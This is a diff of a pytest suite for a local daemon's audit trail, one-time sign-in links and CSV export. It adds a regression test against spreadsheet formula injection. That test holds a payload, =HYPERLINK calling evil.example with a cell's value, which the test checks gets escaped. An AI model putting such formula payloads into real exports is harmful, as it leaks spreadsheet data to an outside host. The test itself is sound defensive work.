@@ -6,7 +6,6 @@ from __future__ import annotations
 import json
 import re
 import time
-from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -20,15 +19,6 @@ from tests.core.brain.daemon import BrainDaemon, ok, refused
 from tools.waiting import wait_until
 
 pytestmark = pytest.mark.slow
-
-
-@pytest.fixture(scope="module")
-def d() -> Iterator[BrainDaemon]:
-    running = BrainDaemon()
-    try:
-        yield running
-    finally:
-        running.close()
 
 
 # -- who gets in ------------------------------------------------------------------------
@@ -385,27 +375,38 @@ TRAIL_ROW_FIELDS = [
 ]
 
 
-def test_the_trail_row_keeps_its_wire_shape(d: BrainDaemon) -> None:
+def clock_row(d: BrainDaemon, call_id: str, conversation: str, act_summary: str, **kw: str) -> None:
+    """One finished clock call on the daemon's trail, allowed by the policy."""
     book = Trail(d.rt.db_path)
     try:
         rec = book.record_for(
-            call_id="shape-1",
+            call_id=call_id,
             turn_id="t1",
-            conversation_id="c-shape",
+            conversation_id=conversation,
             channel="chat",
             tool="clock",
             permission="clock",
             params='{"zone": "UTC"}',
-            act_summary="what time is it",
-            healed="zone: utc -> UTC",
-            parent_call_id="shape-0",
+            act_summary=act_summary,
             principal="local",
+            **kw,
         )
         book.finish(
             rec, status="success", code=None, decision="allow", decided_by="policy", started=False
         )
     finally:
         book.close()
+
+
+def test_the_trail_row_keeps_its_wire_shape(d: BrainDaemon) -> None:
+    clock_row(
+        d,
+        "shape-1",
+        "c-shape",
+        "what time is it",
+        healed="zone: utc -> UTC",
+        parent_call_id="shape-0",
+    )
     with d.client() as c:
         page = c.get("/api/v1/trail", params={"conversation": "c-shape"})
         assert page.status_code == 200, page.text
@@ -659,8 +660,9 @@ def test_a_one_time_link_opens_one_session(d: BrainDaemon) -> None:
     assert url.startswith(d.base + "/brain/link?code=")
     path = url[len(d.base) :]
     with d.client(None) as c:
-        first = c.get(path)
-        assert first.status_code == 303 and "chalie_brain=" in first.headers["set-cookie"]
+        first = c.get(path)  # a page that moves on from this origin (no cross-site redirect)
+        assert first.status_code == 200 and "chalie_brain=" in first.headers["set-cookie"]
+        assert 'content="0;url=/brain/overview"' in first.text
         assert c.get("/brain/overview").status_code == 200
     with d.client(None) as c:
         assert c.get(path).status_code == 401
@@ -735,7 +737,7 @@ def test_an_answer_is_recorded_as_the_signed_in_principal(d: BrainDaemon) -> Non
         result = CliRunner().invoke(cli, ["--home", str(d.home), "brain", "open", "--no-browser"])
         url = result.stdout.strip().splitlines()[0]
         with d.client(None) as c:
-            assert c.get(url[len(d.base) :]).status_code == 303
+            assert c.get(url[len(d.base) :]).status_code == 200
             token = _csrf(c.get("/brain/approvals").text)
             c.post(
                 "/brain/act/answer",
@@ -847,7 +849,7 @@ def test_chalie_brain_open_prints_a_working_link(d: BrainDaemon) -> None:
     assert result.exit_code == 0, result.output
     url = result.stdout.strip().splitlines()[0]
     with d.client(None) as c:
-        assert c.get(url[len(d.base) :]).status_code == 303
+        assert c.get(url[len(d.base) :]).status_code == 200
         assert c.get("/brain/approvals").status_code == 200
 
 
@@ -967,3 +969,19 @@ def test_every_answer_carries_the_servers_own_time(d: BrainDaemon) -> None:
         assert _sign_in(d, c, d.token).status_code == 303
         shown = c.get("/brain/approvals")
         assert shown.status_code == 200 and took(shown) >= 0
+
+
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(d: BrainDaemon) -> None:
+    """Issue 30: model-written text starting with =, +, -, @ was written as a formula."""
+    import csv
+    import io
+
+    clock_row(d, "formula-1", "c-formula", '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    with d.client() as c:
+        text = c.get(
+            "/api/v1/trail/export", params={"conversation": "c-formula", "format": "csv"}
+        ).text
+    head, row = list(csv.reader(io.StringIO(text)))
+    summary = row[head.index("act_summary")]
+    assert summary == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
